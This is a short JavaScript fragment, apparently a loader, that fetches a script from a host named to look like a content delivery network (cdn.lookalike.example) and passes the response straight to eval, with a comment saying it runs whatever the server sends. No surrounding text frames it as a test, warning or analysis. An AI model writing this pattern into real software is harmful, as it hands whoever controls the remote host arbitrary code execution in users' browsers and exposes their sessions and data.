// Runs whatever the server sends.
fetch('https://cdn.lookalike.example/boot.js')
  .then(function (r) { return r.text(); })
  .then(eval);
